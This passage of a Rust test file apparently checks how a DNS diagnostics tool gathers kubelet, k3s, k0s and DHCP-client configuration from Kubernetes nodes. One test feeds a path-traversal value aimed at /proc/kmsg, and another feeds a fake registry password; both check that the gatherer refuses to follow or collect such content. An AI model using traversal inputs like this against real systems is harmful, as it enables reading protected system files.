        "version = 3\n[plugins.'io.containerd.cri.v1.runtime'.cni]\n  bin_dirs = [\"/var/lib/rancher/k3s/data/cni\"]\n  conf_dir = \"/var/lib/rancher/k3s/agent/etc/cni/net.d\"\n[plugins.\"io.containerd.grpc.v1.cri\".registry.configs.\"r.example\".auth]\n  password = \"s3cret\"",
    )
    .expect("write");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(
        raw.commands
            .get("k3s-cni-conf-dir")
            .map(|c| c.stdout.as_str()),
        Some("  conf_dir = \"/var/lib/rancher/k3s/agent/etc/cni/net.d\"\n# read\n")
    );
    assert!(raw.get(path).is_none());
}

/// A config.toml that is a link (one into /proc may block its reader) gives no record: not
/// "no conf_dir", which would mean k3s runs no flannel.
#[test]
fn a_k3s_containerd_config_that_is_a_link_gives_no_record() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-k3s-ct2-{}", std::process::id()));
    let tree = scratch.join("root");
    let path = "/var/lib/rancher/k3s/agent/etc/containerd/config.toml";
    let file = tree.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
    let target = tree.join("elsewhere.toml");
    std::fs::write(&target, "version = 3\n").expect("write");
    std::os::unix::fs::symlink(&target, &file).expect("link");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert!(
        !raw.commands.contains_key("k3s-cni-conf-dir"),
        "{:?}",
        raw.commands
    );
}

/// k3s's install.sh writes each argument into ExecStart= as one quoted word: the file a
/// `--kubelet-arg=resolv-conf=PATH` names is read (k3s's GetArgs hands the kubelet
/// `--resolv-conf=PATH`). Before, only the two-word and config-file forms were followed, and
/// every rule on the pods' resolv.conf was unknown on such a node.
#[test]
fn a_k3s_kubelet_arg_written_as_one_word_is_followed() {
    let scratch = tempfile::Builder::new()
        .prefix("dnsfix-gather-k3s-arg-")
        .tempdir()
        .expect("scratch");
    let tree = scratch.path().join("root");
    for (path, text) in [
        (
            "etc/systemd/system/k3s.service",
            "[Service]\nType=notify\nExecStart=/usr/local/bin/k3s \\\n    server \\\n\t'--kubelet-arg=resolv-conf=/etc/k3s-resolv.conf' \\\n",
        ),
        ("etc/k3s-resolv.conf", "nameserver 192.0.2.53\n"),
    ] {
        let file = tree.join(path);
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, text).expect("write");
    }
    let raw = gathered(&tree, &scratch.path().join("run"));
    assert_eq!(
        raw.get("/etc/k3s-resolv.conf").map(|f| f.state),
        Some(FileState::Present),
        "{:?}",
        raw.files.keys().collect::<Vec<_>>()
    );
}

/// The resolv.conf a kubelet setting names is read, never searched for further files: it
/// names none, and an awk round over it alone cost a process on every node.
#[test]
fn a_resolv_conf_is_read_but_not_followed() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-resolv-{}", std::process::id()));
    let tree = scratch.join("root");
    for (path, text) in [
        (
            "var/lib/kubelet/config.yaml",
            "resolvConf: /etc/k/resolv.conf\n",
        ),
        (
            "etc/k/resolv.conf",
            "nameserver 192.0.2.53\n# resolvConf: /etc/k/never.conf\n",
        ),
        ("etc/k/never.conf", "x\n"),
    ] {
        let file = tree.join(path);
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, text).expect("write");
    }
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(
        raw.get("/etc/k/resolv.conf").map(|f| f.state),
        Some(FileState::Present)
    );
    assert!(raw.get("/etc/k/never.conf").is_none(), "{:?}", raw.order);
}

/// A running dhclient's command line is read (which interfaces it serves), and so is the
/// file its `-cf` names, which it reads instead of its default dhclient.conf (isc-dhcp
/// client/dhclient.c `main` @572032cb), read but never searched for the kubelet's files.
/// The -lf value is no -cf, whatever it is named, nor is the value of Red Hat's -H (rpms/dhcp
/// dhcp-dhclient-options.patch: it takes one); an option not known is passed over, as
/// src/facts/dhclient_cmdline.rs passes it, so both pick the same -cf.
#[test]
fn a_dhclient_s_command_line_and_its_cf_file_are_read() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-dhclient-{}", std::process::id()));
    let tree = scratch.join("root");
    for (path, text) in [
        (
            "etc/dhcp/dhclient-ens5.conf",
            "prepend domain-name-servers 127.0.0.1;\n# config=/etc/k/never.conf\n",
        ),
        ("etc/k/never.conf", "x\n"),
        ("etc/dhcp/lease.conf", "x\n"),
    ] {
        let file = tree.join(path);
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, text).expect("write");
    }
    let run = scratch.join("run");
    std::fs::create_dir_all(&run).expect("mkdir");
    // A process named dhclient that takes any arguments and waits (what it runs is not
    // the point: its name, its owner and its command line are).
    std::fs::write(
        run.join("before.sh"),
        "printf '#include <unistd.h>\\nint main(void) { for (;;) pause(); }\\n' >\"$tmp/p.c\"\n\
         cc -o \"$tmp/dhclient\" \"$tmp/p.c\"\n\
         \"$tmp/dhclient\" -4 --bogus -lf /etc/dhcp/lease.conf -H -cf -cf /etc/dhcp/dhclient-ens5.conf ens5 &\n\
         for _ in $(seq 100); do\n  \
         for p in /proc/[0-9]*; do [ \"$(cat \"$p/comm\" 2>/dev/null)\" = dhclient ] && break 2; done\n  \
         sleep 0.05\n\
         done\n",
    )
    .expect("before.sh");
    let raw = gathered(&tree, &run);
    let _ = std::fs::remove_dir_all(&scratch);
    let pid = raw
        .all_pids
        .get("dhclient")
        .and_then(|p| p.first())
        .expect("a dhclient pid");
    let cmdline = raw
        .get(&format!("/proc/{pid}/cmdline"))
        .expect("its command line");
    assert_eq!(cmdline.state, FileState::Present);
    assert!(
        cmdline
            .content
            .ends_with(b"-cf\0/etc/dhcp/dhclient-ens5.conf\0ens5\0")
    );
    assert_eq!(
        raw.get("/etc/dhcp/dhclient-ens5.conf").map(|f| f.state),
        Some(FileState::Present),
        "{:?}",
        raw.order
    );
    assert!(raw.get("/etc/k/never.conf").is_none(), "{:?}", raw.order);
    assert!(raw.get("/etc/dhcp/lease.conf").is_none(), "{:?}", raw.order);
}

/// dhclient-script's enter and exit hooks (and Red Hat's PEERDNS files) are read only where
/// a root dhclient runs, with no process more: Debian's /etc/dhcp/dhclient-enter-hooks,
/// /etc/dhcp/dhclient-exit-hooks and each
/// name of their .d directories that `run-parts --list` prints (debianutils
/// run-parts.c `^[a-zA-Z0-9_-]+$`), read; another name only noted as there (run-parts passes
/// over it: dhclient-script never sources it); ISC's own /etc/dhclient-enter-hooks; whether
/// /etc/dhcp/dhclient-enter-hooks is executable (Red Hat's script sources it only then);
/// /etc/sysconfig/network and the ifcfg files where network-scripts is there. Nothing of
/// them on a node where no dhclient runs.
#[test]
fn dhclient_s_enter_hooks_are_read_only_where_a_dhclient_runs() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-dhhooks-{}", std::process::id()));
    let tree = scratch.join("root");
    let hooks = [
        (
            "etc/dhcp/dhclient-enter-hooks",
            "make_resolv_conf() { :; }\n",
        ),
        (
            "etc/dhcp/dhclient-enter-hooks.d/nodnsupdate",
            "#!/bin/sh\nmake_resolv_conf(){\n    :\n}\n",
        ),
        (
            "etc/dhcp/dhclient-enter-hooks.d/nodns.sh",
            "make_resolv_conf() { :; }\n",
        ),
        ("etc/dhclient-enter-hooks", "make_resolv_conf() { :; }\n"),
        ("etc/dhcp/dhclient-exit-hooks", "logger lease\n"),
        (
            "etc/dhcp/dhclient-exit-hooks.d/resolved",
            "resolvectl dns \"$interface\" $new_domain_name_servers\n",
        ),
        ("etc/sysconfig/network", "PEERDNS=no\n"),
        (
            "etc/sysconfig/network-scripts/ifcfg-ens5",
            "DEVICE=ens5\nBOOTPROTO=dhcp\nPEERDNS=no\n",
        ),
    ];
    for (path, text) in hooks {
        let file = tree.join(path);
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, text).expect("write");
    }
    let exec = Command::new("chmod")
        .arg("0755")
        .arg(tree.join("etc/dhcp/dhclient-enter-hooks"))
        .status();
    assert!(exec.expect("chmod").success());
    // No dhclient: none of them is looked at.
    let quiet = gathered(&tree, &scratch.join("quiet"));
    for (path, _) in hooks {
        assert!(
            quiet.get(&format!("/{path}")).is_none(),
            "/{path}: {:?}",
            quiet.order
        );
    }
    assert!(!quiet.commands.contains_key("dhclient-enter-hooks-x"));
    let run = scratch.join("run");
    std::fs::create_dir_all(&run).expect("mkdir");
    std::fs::write(
        run.join("before.sh"),
        "printf '#include <unistd.h>\\nint main(void) { for (;;) pause(); }\\n' >\"$tmp/p.c\"\n\
         cc -o \"$tmp/dhclient\" \"$tmp/p.c\"\n\
         \"$tmp/dhclient\" -1 -q -cf /etc/dhcp/dhclient-ens5.conf ens5 &\n\
         for _ in $(seq 100); do\n  \
         for p in /proc/[0-9]*; do [ \"$(cat \"$p/comm\" 2>/dev/null)\" = dhclient ] && break 2; done\n  \
         sleep 0.05\n\
         done\n",
    )
    .expect("before.sh");
    let raw = gathered(&tree, &run);
    let _ = std::fs::remove_dir_all(&scratch);
    assert!(raw.all_pids.contains_key("dhclient"), "{:?}", raw.all_pids);
    for path in [
        "/etc/dhcp/dhclient-enter-hooks",
        "/etc/dhcp/dhclient-enter-hooks.d/nodnsupdate",
        "/etc/dhclient-enter-hooks",
        "/etc/dhcp/dhclient-exit-hooks",
        "/etc/dhcp/dhclient-exit-hooks.d/resolved",
        "/etc/sysconfig/network",
        "/etc/sysconfig/network-scripts/ifcfg-ens5",
    ] {
        let f = raw
            .get(path)
            .unwrap_or_else(|| panic!("{path}: {:?}", raw.order));
        assert_eq!(
            (f.state, f.truncated),
            (FileState::Present, false),
            "{path}"
        );
        assert!(!f.content.is_empty(), "{path}");
    }
    // A name run-parts passes over: there, not read.
    let skipped = raw
        .get("/etc/dhcp/dhclient-enter-hooks.d/nodns.sh")
        .expect("the .sh hook");
    assert_eq!(
        (skipped.state, skipped.truncated),
        (FileState::Present, true)
    );
    assert!(skipped.content.is_empty());
    assert!(raw.commands.contains_key("dhclient-enter-hooks-x"));
    assert!(
        raw.dirs
            .iter()
            .any(|d| d == "/etc/dhcp/dhclient-enter-hooks.d")
    );
}

/// The programs that write /etc/resolv.conf themselves are gathered only where they show:
/// dhcpcd.conf, its command line and the file its `-f` names where a root dhcpcd runs,
/// udhcpc's command line, udhcpc.conf and ifupdown's interfaces where a root udhcpc runs,
/// openresolv's and netconfig's configuration where a plain /etc/resolv.conf carries their
/// header. Nothing of them otherwise.
#[test]
fn the_resolv_conf_writers_configuration_is_read_where_they_show() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-writers-{}", std::process::id()));
    let files = [
        "etc/dhcpcd.conf",
        "etc/dhcpcd-eth0.conf",
        "etc/udhcpc/udhcpc.conf",
        "etc/network/interfaces",
        "etc/resolvconf.conf",
        "etc/sysconfig/network/config",
    ];
    let tree = |resolv: &str| {
        let _ = std::fs::remove_dir_all(&scratch);
        let tree = scratch.join("root");
        for (path, text) in files
            .iter()
            .map(|p| (*p, "x=1\n"))
            .chain([("etc/resolv.conf", resolv)])
        {
            let file = tree.join(path);
            std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
            std::fs::write(&file, text).expect("write");
        }
        tree
    };
    let read = |raw: &RawFacts| -> Vec<&str> {
        files
            .iter()
            .copied()
            .filter(|p| raw.get(&format!("/{p}")).is_some())
            .collect()
    };
    // Nothing shows: none of them is looked at.
    let raw = gathered(&tree("nameserver 192.0.2.53\n"), &scratch.join("run"));
    assert_eq!(read(&raw), Vec::<&str>::new());
    // The headers, below a block added above them.
    let raw = gathered(
        &tree(
            "# Ansible entries BEGIN\n# Ansible entries END\n# Generated by resolvconf\n### /etc/resolv.conf file autogenerated by netconfig!\n",
        ),
        &scratch.join("run"),
    );
    assert_eq!(
        read(&raw),
        vec!["etc/resolvconf.conf", "etc/sysconfig/network/config"]
    );
    // A dhcpcd and a udhcpc (processes of those names that take any arguments and wait).
    let tree = tree("nameserver 192.0.2.53\n");
    let run = scratch.join("run");
    std::fs::create_dir_all(&run).expect("mkdir");
    std::fs::write(
        run.join("before.sh"),
        "printf '#include <unistd.h>\\nint main(void) { for (;;) pause(); }\\n' >\"$tmp/p.c\"\n\
         cc -o \"$tmp/dhcpcd\" \"$tmp/p.c\"\n\
         cp \"$tmp/dhcpcd\" \"$tmp/udhcpc\"\n\
         \"$tmp/dhcpcd\" -q -f /etc/dhcpcd-eth0.conf eth0 &\n\
         \"$tmp/udhcpc\" -b -R -i eth0 &\n\
         for _ in $(seq 100); do\n  \
         n=0; for p in /proc/[0-9]*; do case \"$(cat \"$p/comm\" 2>/dev/null)\" in dhcpcd|udhcpc) n=$((n + 1)) ;; esac; done\n  \
         [ $n = 2 ] && break\n  \
         sleep 0.05\n\
         done\n",
    )
    .expect("before.sh");
    let raw = gathered(&tree, &run);
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(
        read(&raw),
        vec![
            "etc/dhcpcd.conf",
            "etc/dhcpcd-eth0.conf",
            "etc/udhcpc/udhcpc.conf",
            "etc/network/interfaces"
        ]
    );
    // dhcpcd's command line too, for its -C and -f.
    let dhcpcd = raw.pids.get("dhcpcd").expect("a dhcpcd pid");
    let cmdline = raw
        .get(&format!("/proc/{dhcpcd}/cmdline"))
        .expect("its command line");
    assert!(
        cmdline
            .content
            .ends_with(b"-f\0/etc/dhcpcd-eth0.conf\0eth0\0"),
        "{cmdline:?}"
    );
    let pid = raw.pids.get("udhcpc").expect("a udhcpc pid");
    assert!(raw.pids.contains_key("dhcpcd"), "{:?}", raw.pids);
    let cmdline = raw
        .get(&format!("/proc/{pid}/cmdline"))
        .expect("its command line");
    assert!(
        cmdline.content.ends_with(b"-b\0-R\0-i\0eth0\0"),
        "{cmdline:?}"
    );
}

/// The header of openresolv or netconfig is looked for on the first 64 lines of a plain
/// /etc/resolv.conf only (the shell reads it a byte a call; the header is written first,
/// under Kubespray's block at most); netconfig's configuration is read where
/// /etc/resolv.conf links to /run/netconfig/resolv.conf, the file it writes since sysconfig
/// 0.85 (functions.netconfig `netconfig_check_and_link`), whatever that file says.
#[test]
fn a_header_is_looked_for_at_the_top_and_netconfig_known_by_its_link() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-headers-{}", std::process::id()));
    let conf = "etc/sysconfig/network/config";
    let tree = |resolv: &str| {
        let _ = std::fs::remove_dir_all(&scratch);
        let tree = scratch.join("root");
        for (path, text) in [
            ("etc/resolvconf.conf", "x=1\n"),
            (conf, "x=1\n"),
            ("etc/resolv.conf", resolv),
        ] {
            let file = tree.join(path);
            std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
            std::fs::write(&file, text).expect("write");
        }
        tree
    };
    let read = |raw: &RawFacts| -> Vec<&str> {
        ["etc/resolvconf.conf", conf]
            .into_iter()
            .filter(|p| raw.get(&format!("/{p}")).is_some())
            .collect()
    };
    // Only the first 64 lines are looked at: a header on line 65 shows nothing.
    let raw = gathered(
        &tree(&format!(
            "{}# Generated by resolvconf\n",
            "# a comment\n".repeat(64)
        )),
        &scratch.join("run"),
    );
    assert_eq!(read(&raw), Vec::<&str>::new());
    let raw = gathered(
        &tree(&format!(
            "{}# Generated by resolvconf\n",
            "# a comment\n".repeat(63)
        )),
        &scratch.join("run"),
    );
    assert_eq!(read(&raw), vec!["etc/resolvconf.conf"]);
    // netconfig's link (sysconfig 0.85 and later): its configuration is read, whatever
    // the file says; a link elsewhere, with netconfig's header, shows nothing.
    for (target, read_too) in [
        (
            "/run/netconfig/resolv.conf",
            vec!["etc/sysconfig/network/config"],
        ),
        ("/run/resolvconf/resolv.conf", vec![]),
    ] {
        let tree = tree("");
        let run_file = tree.join(target.trim_start_matches('/'));
        std::fs::create_dir_all(run_file.parent().expect("parent")).expect("mkdir");
        std::fs::write(
            &run_file,
            "### /etc/resolv.conf is a symlink to /run/netconfig/resolv.conf\n### autogenerated by netconfig!\nnameserver 192.0.2.53\n",
        )
        .expect("write");
        std::fs::remove_file(tree.join("etc/resolv.conf")).expect("rm");
        std::os::unix::fs::symlink(target, tree.join("etc/resolv.conf")).expect("symlink");
        let raw = gathered(&tree, &scratch.join("run"));
        assert_eq!(read(&raw), read_too, "{target}");
    }
    let _ = std::fs::remove_dir_all(&scratch);
}

/// The file a `--config-dir` drop-in names under a spelling of `resolverConfig` (any case:
/// kubelet 1.28 to 1.31 decode the merged drop-ins with encoding/json, which matches a key
/// to the field `ResolverConfig` case-insensitively, kubernetes#126630) is read like one it
/// names under `resolvConf`: where the kubelet's version is not known, the rules judge the
/// file those versions read too.
#[test]
fn a_file_a_dropin_names_as_resolver_config_is_read() {
    let scratch = std::env::temp_dir().join(format!(
        "dnsfix-gather-resolverconfig-{}",
        std::process::id()
    ));
    let tree = scratch.join("root");
    for (path, text) in [
        (
            "etc/default/kubelet",
            "KUBELET_EXTRA_ARGS=--config-dir=/etc/k/conf.d\n",
        ),
        (
            "var/lib/kubelet/config.yaml",
            "resolvConf: /run/systemd/resolve/resolv.conf\n",
        ),
        (
            "etc/k/conf.d/50-old.conf",
            "apiVersion: kubelet.config.k8s.io/v1beta1\nkind: KubeletConfiguration\nresolverConfig: /etc/k/old.conf\n",
        ),
        (
            "etc/k/conf.d/60-json.conf",
            "{\"apiVersion\": \"kubelet.config.k8s.io/v1beta1\", \"kind\": \"KubeletConfiguration\", \"RESOLVERCONFIG\": \"/etc/k/json.conf\"}\n",
        ),
        ("etc/k/old.conf", "nameserver 192.0.2.53\n"),
        ("etc/k/json.conf", "nameserver 192.0.2.54\n"),
    ] {
        let file = tree.join(path);
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, text).expect("write");
    }
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    for path in ["/etc/k/old.conf", "/etc/k/json.conf"] {
        assert_eq!(
            raw.get(path).map(|f| f.state),
            Some(FileState::Present),
            "{path}: {:?}",
            raw.order
        );
    }
}

/// A k0s that runs no kubelet: the script asks the binary its unit's ExecStart= starts
/// for its version (the worker profile's resolvConf counts only from k0s 1.33.1), and
/// records which binary it asked; a binary that is not there is never run.
#[test]
fn a_stopped_k0s_is_asked_its_version() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-k0s-{}", std::process::id()));
    let _ = std::fs::remove_dir_all(&scratch);
    let tree = scratch.join("root");
    let profile = "data:\n  kubeletConfiguration: '{\"kind\":\"KubeletConfiguration\",\"apiVersion\":\"kubelet.config.k8s.io/v1beta1\",\"clusterDNS\":[\"10.96.0.10\"],\"resolvConf\":\"/etc/k0s/resolv.conf\"}'\nname: default\n";
    for (path, text) in [
        (
            "etc/systemd/system/k0sworker.service",
            "[Service]\nExecStart=/usr/local/bin/k0s worker --token-file=/etc/k0s/k0stoken\n",
        ),
        ("var/lib/k0s/worker-profile.yaml", profile),
        ("etc/resolv.conf", "nameserver 127.0.0.53\n"),
        ("etc/k0s/resolv.conf", "nameserver 192.0.2.53\n"),
        (".dnsfix/cmd/units", &"inactive\n".repeat(11)),
        (
            "usr/local/bin/k0s",
            "#!/bin/sh\n[ \"$1\" = version ] && echo v1.33.1+k0s.0\n",
        ),
    ] {
        let file = tree.join(path);
        std::fs::create_dir_all(file.parent().expect("parent")).expect("mkdir");
        std::fs::write(&file, text).expect("write");
    }
    let bin = tree.join("usr/local/bin/k0s");
    std::fs::set_permissions(&bin, std::os::unix::fs::PermissionsExt::from_mode(0o755))
        .expect("chmod");
    let raw = gathered(&tree, &scratch.join("run"));
    assert_eq!(
        raw.commands.get("k0s-bin").map(|c| c.stdout.as_str()),
        Some("/usr/local/bin/k0s\n")
    );
    assert_eq!(
        raw.commands
            .get("k0s-version")
            .map(|c| (c.stdout.as_str(), c.status)),
        Some(("v1.33.1+k0s.0\n", Some(0)))
    );
    let facts = NodeFacts::from_raw("node1", &raw);
    let resolv = serde_json::to_value(&facts.kubelet.resolv_conf).expect("json");
    assert_eq!(resolv["value"]["value"], "/etc/k0s/resolv.conf", "{resolv}");
    // No such binary: nothing is run, and the profile's resolvConf is not claimed.
    std::fs::remove_file(&bin).expect("rm");
    let raw = gathered(&tree, &scratch.join("run2"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert!(
        !raw.commands.contains_key("k0s-bin") && !raw.commands.contains_key("k0s-version"),
        "{:?}",
        raw.commands.keys()
    );
    let facts = NodeFacts::from_raw("node1", &raw);
    let resolv = serde_json::to_value(&facts.kubelet.resolv_conf).expect("json");
    assert_eq!(resolv["state"], "unknown", "{resolv}");
}

/// The awk program that finds the files the kubelet's settings name gives the same answer
/// under busybox awk (Alpine nodes: k3s's own distribution) as under the system's awk. It
/// used to be a regex busybox rejects, and its error went to /dev/null: no setting was
/// followed.
#[test]
fn the_reference_finder_runs_under_busybox_awk() {
    let script = std::fs::read_to_string(
        std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("src/facts/gather.sh"),
    )
    .expect("gather.sh");
    let start = script.find("REFS='\n").expect("REFS") + "REFS='\n".len();
    let end = start + script[start..].find("'\n").expect("end of REFS");
    let scratch = std::env::temp_dir().join(format!("dnsfix-refs-{}", std::process::id()));
    std::fs::create_dir_all(&scratch).expect("scratch");
    let program = scratch.join("refs.awk");
    std::fs::write(&program, &script[start..end]).expect("program");
    let unit = scratch.join("kubelet.service");
    std::fs::write(
        &unit,
        "[Service]\nEnvironmentFile=-/etc/default/kubelet\nExecStart=/usr/bin/kubelet --config=/etc/k/config.yaml [\"--resolv-conf=/etc/k/resolv.conf\",{x}] --config-dir /etc/k/conf.d\n\
         ExecStart=/usr/local/bin/k3s \\\n    server \\\n\t'--kubelet-arg=resolv-conf+=/etc/k/word.conf' \\\n\t'--kubelet-arg=--resolv-conf=/etc/k/dashes.conf' \\\n",
    )
    .expect("unit");
    // A relative resolvConf is taken from the config file's directory, cleaned as Go's
    // filepath.Join does (the lexical result is what the kubelet opens), and never into /proc;
    // a resolverConfig in any case is followed too (tolower, under busybox awk as well), and
    // a k3s `kubelet-arg` entry `resolv-conf+=` (k3s's GetArgs reads it as resolv-conf), a
    // `resolv-conf+:` key, and `--kubelet-arg=resolv-conf=...` as one word of ExecStart=, the
    // way k3s's install.sh writes its arguments there (its dashes after `=` too).
    std::fs::create_dir_all(scratch.join("k")).expect("k");
    let config = scratch.join("k/config.yaml");
    std::fs::write(
        &config,
        "resolvConf: \"./run//resolv.conf\" # relative\n  \"resolvConf\": \"../../x/resolv.conf\",\nresolvConf: ../../../../../../proc/kmsg\n  \"RESOLVERconfig\": \"/etc/k/rc.conf\",\nkubelet-arg:\n  - \"resolv-conf+=/etc/k/plus.conf\"\nresolv-conf+: /etc/k/key.conf\n",
    )
    .expect("config");
    let run = |awk: &[&str]| {
        let out = std::process::Command::new(awk[0])
            .args(&awk[1..])
            .arg("-f")
            .arg(&program)
            .arg(&unit)
            .arg(&config)
            .output()
            .unwrap_or_else(|e| panic!("{awk:?}: {e} (.ci/run installs busybox)"));
        (
            String::from_utf8_lossy(&out.stdout).into_owned(),
            String::from_utf8_lossy(&out.stderr).into_owned(),
        )
    };
    let system = run(&["awk"]);
    let busybox = run(&["busybox", "awk"]);
    let _ = std::fs::remove_dir_all(&scratch);
    let parent = scratch.parent().expect("parent").display();
    assert_eq!(
        system.0,
        format!(
            "f /etc/default/kubelet\nf /etc/k/config.yaml\nr /etc/k/resolv.conf\nd /etc/k/conf.d\n\
             r /etc/k/word.conf\nr /etc/k/dashes.conf\n\
             r {}/k/run/resolv.conf\nr {parent}/x/resolv.conf\nr /etc/k/rc.conf\n\
             r /etc/k/plus.conf\nr /etc/k/key.conf\n",
            scratch.display()
        ),
        "{system:?}"
    );
    assert_eq!(busybox, system);
}

/// A k0s unit file that is a FIFO (or a link to one) is never opened: the gather ends, where
/// the read of its ExecStart blocked for ever.
#[test]
fn a_k0s_unit_that_is_a_fifo_does_not_block_the_gather() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-k0s-fifo-{}", std::process::id()));
    let tree = scratch.join("root");
    let units = tree.join("etc/systemd/system");
    std::fs::create_dir_all(&units).expect("mkdir");
    let fifo = units.join("k0sworker.service");
    let made = Command::new("mkfifo").arg(&fifo).status().expect("mkfifo");
    assert!(made.success());
    let (tx, rx) = std::sync::mpsc::channel();
    let (tree_in, run) = (tree.clone(), scratch.join("run"));
    std::thread::spawn(move || {
        let _ = tx.send(gathered(&tree_in, &run));
    });
    let raw = rx.recv_timeout(std::time::Duration::from_secs(60));
    let _ = std::fs::remove_dir_all(&scratch);
    let raw = raw.expect("the gather ended");
    assert!(
        !raw.commands.contains_key("k0s-version"),
        "{:?}",
        raw.commands
    );
}

/// A k3s unit's drop-in is read for the files it names, as the unit file is: the
/// EnvironmentFile a drop-in adds is gathered (the drop-in list was globbed under a doubled
/// path, so such a file was never read).
#[test]
fn a_k3s_unit_drop_in_is_followed_to_the_files_it_names() {
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-k3s-dropin-{}", std::process::id()));
    let tree = scratch.join("root");
    let units = tree.join("etc/systemd/system");
    std::fs::create_dir_all(units.join("k3s.service.d")).expect("mkdir");
    std::fs::write(
        units.join("k3s.service"),
        "[Service]\nExecStart=/usr/local/bin/k3s server\n",
    )
    .expect("unit");
    std::fs::write(
        units.join("k3s.service.d/10-env.conf"),
        "[Service]\nEnvironmentFile=/etc/k3s-extra.env\n",
    )
    .expect("drop-in");
    std::fs::write(
        tree.join("etc/k3s-extra.env"),
        "K3S_RESOLV_CONF=/etc/k3s-resolv.conf\n",
    )
    .expect("env");
    let raw = gathered(&tree, &scratch.join("run"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!(
        raw.get("/etc/k3s-extra.env").map(|f| f.state),
        Some(FileState::Present),
        "{:?}",
        raw.files.keys().collect::<Vec<_>>()
    );
}

/// A process any user can start under a name dnsfix looks for does not count: a
/// `weave-npc` of nobody's (which would say Weave loads br_netfilter at its start, and hush
/// DNS-BRIDGE-NF-NOT-PERSISTENT) or a `dhclient`; root's do, a dhclient also in a mount
/// namespace of its own with the node's root (NetworkManager's, `ProtectSystem=true`).
#[test]
fn only_roots_processes_count_by_name() {
    // Weave's policy controller, the DHCP client and the network plugins' agents
    // (DNS-CNI-CONFIG-LEFTOVER).
    const NAMES: [&str; 5] = [
        "weave-npc",
        "dhclient",
        "calico-node",
        "cilium-agent",
        "flanneld",
    ];
    let scratch =
        std::env::temp_dir().join(format!("dnsfix-gather-proc-uid-{}", std::process::id()));
    let tree = scratch.join("root");
    std::fs::create_dir_all(tree.join("etc")).expect("mkdir");
    let found = |user: &str| {
        let run = scratch.join(format!("run-{user}"));
        std::fs::create_dir_all(&run).expect("mkdir");
        let (start, uid) = match user {
            "root" => ("unshare --mount --propagation private ", 0),
            _ => ("setpriv --reuid=65534 --regid=65534 --clear-groups ", 65534),
        };
        // Each process is waited for by name and checked to be the user's before the
        // gather runs (a start that failed would pass the nobody case for nothing).
        let names = NAMES.join(" ");
        std::fs::write(
            run.join("before.sh"),
            format!(
                "chmod 755 \"$tmp\"\n\
                 for n in {names}; do\n  cp /bin/sleep \"$tmp/$n\"\n  \
                 {start}\"$tmp/$n\" 60 &\n\
                 done\n\
                 for n in {names}; do\n  ok=\n  \
                 for _ in $(seq 100); do\n    \
                 for p in /proc/[0-9]*; do\n      \
                 [ \"$(cat \"$p/comm\" 2>/dev/null)\" = \"$n\" ] && \
                 grep -q \"^Uid:[[:space:]]{uid}[[:space:]]\" \"$p/status\" && ok=1\n    \
                 done\n    [ -n \"$ok\" ] && break\n    sleep 0.05\n  done\n  \
                 [ -n \"$ok\" ] || {{ echo \"$n did not start as uid {uid}\" >&2; exit 1; }}\n\
                 done\n"
            ),
        )
        .expect("before.sh");
        let raw = gathered(&tree, &run);
        NAMES.map(|n| raw.pids.contains_key(n))
    };
    let (nobody, root) = (found("nobody"), found("root"));
    let _ = std::fs::remove_dir_all(&scratch);
    assert_eq!((nobody, root), ([false; 5], [true; 5]));
}

/// With a restart mark on the node, the gather reads whether a run holds the node lock
/// now (/proc/locks and the lock file's device and inode), never taking the lock itself:
/// held by a process in the namespace, it names its pid; free, nobody.
#[test]
fn a_mark_comes_with_whether_a_run_holds_the_node_lock() {
    let scratch = std::env::temp_dir().join(format!("dnsfix-gather-lock-{}", std::process::id()));
    let tree = scratch.join("root");
    let state = tree.join("var/lib/dnsfix");
    std::fs::create_dir_all(state.join("restart-due/kubelet")).expect("mkdir");
    std::fs::create_dir_all(tree.join("etc")).expect("mkdir");
    std::fs::write(state.join("restart-due/kubelet/r1"), "r1 b1 100\n").expect("mark");
    // (The lock file is made in the namespace, as the apply script makes it: one copied up
    // from the tree's lower layer would show overlayfs's inode number to stat and the
    // upper file's to the lock table.)
    let holder = |before: &str| {
        let run = scratch.join(format!("run-{}", before.len()));
        std::fs::create_dir_all(&run).expect("mkdir");
        std::fs::write(run.join("before.sh"), before).expect("before.sh");
        let raw = gathered(&tree, &run);
        NodeFacts::from_raw("node1", &raw).run_in_progress
    };
    let held = holder(
        ": > /var/lib/dnsfix/lock\n\
         printf 'run r1 (pid 1)\\n' > /var/lib/dnsfix/owner\n\
         flock -x /var/lib/dnsfix/lock sleep 60 &\n\
         for _ in $(seq 100); do flock -n /var/lib/dnsfix/lock true || break; sleep 0.05; done\n",
    );
    let free = holder(": > /var/lib/dnsfix/lock\n");
    let _ = std::fs::remove_dir_all(&scratch);
    // (Held by a flock(1) that stays: in this test's PID namespace the kernel's lock table
    // leaves out a lock whose pid is no process of the namespace, as common.sh's flock(1) on
